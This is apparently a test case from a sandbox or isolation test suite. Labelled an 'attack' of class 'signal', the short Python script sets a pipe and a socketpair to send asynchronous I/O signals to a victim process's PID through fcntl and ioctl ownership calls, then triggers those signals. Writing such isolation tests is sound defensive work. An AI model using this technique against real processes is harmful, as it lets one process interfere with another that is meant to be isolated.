# SPDX-License-Identifier: Apache-2.0
# attack: descriptors that send signals: F_SETOWN of a pipe and a socketpair to the victim
# class: signal
# wins: victim
# needs: victim
from kit import *

import socket
tried()
a, b = socket.socketpair()
r, w = os.pipe()
for fd, other in ((a.fileno(), b.fileno()), (r, w)):
    sc('fcntl', fd, 8, F['vpid'])
    sc('fcntl', fd, 15, struct.pack('<ii', 1, F['vpid']))
    sc('fcntl', fd, 10, 10)
    sc('ioctl', fd, 0x8901, ctypes.byref(ctypes.c_int(F['vpid'])))
    sc('fcntl', fd, 4, 0o20000 | 2)
    sc('ioctl', fd, 0x5452, ctypes.byref(ctypes.c_int(1)))
    os.write(other, b'x')
hold()
